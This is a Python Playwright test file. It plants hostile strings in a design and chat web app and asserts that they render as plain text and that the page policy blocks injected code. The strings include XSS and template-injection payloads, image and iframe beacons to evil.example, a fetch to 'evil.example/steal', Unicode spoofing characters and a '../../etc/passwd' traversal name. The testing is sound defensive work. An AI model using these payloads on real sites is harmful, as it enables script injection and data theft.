"""Words that were written to do harm stay words."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.conftest import Database
from tests.page.browser import DESKTOP, PHONE
from tests.page.conftest import Visit
from tests.page.gateway_process import GatewayProcess
from tests.page.person import ask
from tests.page.test_design import fits

pytestmark = pytest.mark.browser
HOSTILE = [
    "<script>window.harmed = 1</script>",
    '"><img src=x onerror="window.harmed = 1"><svg onload="window.harmed = 1">',
    '<a href="javascript:window.harmed=1">press</a> [press](javascript:window.harmed=1)',
    "</textarea></script><iframe src=https://evil.example/></iframe>",
    "![](https://evil.example/?q=secret) https://evil.example/",
    "{{constructor.constructor('window.harmed=1')()}} ${window.harmed=1}",
    "safe \u202egnp.exe\u202c \u2066\u200b\u200d\ufeff \u2028 name \U000e0041",
    "long " + "W" * 5000,
    "many\n" * 400,
    "Z\u0351\u0344\u0342\u0349\u0338a\u0313\u0311\u033el\u0304g\u0344o\u0338",
]
CHECK = {"code": "X", "stage": HOSTILE[0], "passed": False, "title": HOSTILE[1], "place": HOSTILE[2],
         "measured": HOSTILE[3], "required": HOSTILE[7], "cause": "", "fix": ""}  # fmt: skip


def planted(database: Database, design: int) -> None:
    """Everything that a model or a person could have got into a design, as bad as it can be."""
    with database.connect() as owner:
        owner.execute(
            "update core.design_states set state_description = %s, progress = %s, error = %s where state_id = %s",
            (HOSTILE[1] + HOSTILE[7], HOSTILE[2], HOSTILE[0] + HOSTILE[6], design),
        )
        owner.execute(
            "insert into core.design_scripts (state_id, script_content, checks) values (%s, 'pass', %s)",
            (design, json.dumps([CHECK, CHECK | {"passed": True}])),
        )
        for words in HOSTILE:
            owner.execute(
                "insert into core.chat_messages (state_id, front_end, sender, text) values (%s, 'web_user', 'client_manager', %s)",
                (design, words),
            )
        owner.execute("select pg_notify('design_updates', %s)", (str(design),))


@pytest.mark.parametrize("screen", [DESKTOP, PHONE])
def test_hostile_words_stay_words(
    screen: dict[str, int], visit: Visit, gateway: GatewayProcess, own_database: Database
) -> None:
    window = visit(viewport=screen)
    # the database takes no such name: this is what a gateway that lies could say
    names = [*HOSTILE[:5], "../../etc/passwd", "a\u202egpj.exe"]
    files = [
        {"name": name, "bytes": 7, "sha256": "0", "made_by": HOSTILE[0], "created_at": HOSTILE[1]}
        for name in names
    ]
    window.page.route("**/rpc/design_files", lambda route: route.fulfill(json=files))
    page = window.open(gateway.token("anna", HOSTILE[1][:90]))
    ask(page, HOSTILE[0] + HOSTILE[7])
    planted(own_database, 1)
    words = page.locator(".talk .words")
    expect(words).to_have_count(len(HOSTILE) + 1)
    assert words.nth(1).inner_text() == HOSTILE[0]
    assert words.nth(2).inner_text() == HOSTILE[1]
    turned = words.nth(7).inner_text()
    assert turned.startswith("safe gnp.exe ")
    assert not {"\u202e", "\u2066", "\u200b", "\ufeff", "\U000e0041"} & set(turned)
    expect(page.locator(".design h1")).to_contain_text('"><img src=x onerror=')
    expect(page.locator(".checks tbody tr")).to_have_count(2)
    expect(page.locator(".checks caption")).to_have_text("1 of 2 checks failed")
    expect(page.locator(".files li")).to_have_count(len(names))
    fits(page)
    assert page.evaluate("window.harmed") is None
    inside: dict[str, Any] = (
        page.evaluate("""() => Object.fromEntries(["script", "iframe", "svg", "img[src*=evil], img[src=x]",
        "a[href^=javascript]", "[onerror], [onload], [onclick], [style]"].map((what) => [what, document.querySelectorAll(what).length]))""")
    )
    assert inside.pop("script") == 1, "the page's own"
    assert set(inside.values()) == {0}, inside
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.get_by_role("button", name="../../etc/passwd").click()
    expect(page.locator(".design .trouble").first).to_contain_text("none of a file")
    page.get_by_role("button", name="agpj.exe").click()
    expect(page.locator(".design .trouble").first).to_contain_text("no file")
    assert all("passwd" not in url for url in asked)


def test_what_the_page_may_do_is_little(visit: Visit, gateway: GatewayProcess) -> None:
    """The policy holds: nothing inline runs, and nobody else is spoken to, even by a script that got in."""
    window = visit(viewport=DESKTOP)
    page = window.open(gateway.token("anna"))
    expect(page.locator("#link")).to_have_text("Live")
    page.route("https://evil.example/**", lambda route: route.fulfill(body="taken"))
    spoken = page.evaluate("""async () => {
      const inline = document.createElement("script");
      inline.textContent = "window.harmed = 1";
      document.body.append(inline);
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.harmed = 1'>");
      const told = await fetch("https://evil.example/steal").then(() => "sent", () => "refused");
      return [told, window.harmed ?? null];
    }""")
    assert spoken == ["refused", None]
    page.wait_for_function("window.violations.length >= 3")
    page.evaluate("window.violations = []")
    window.troubles.clear()  # they were wanted
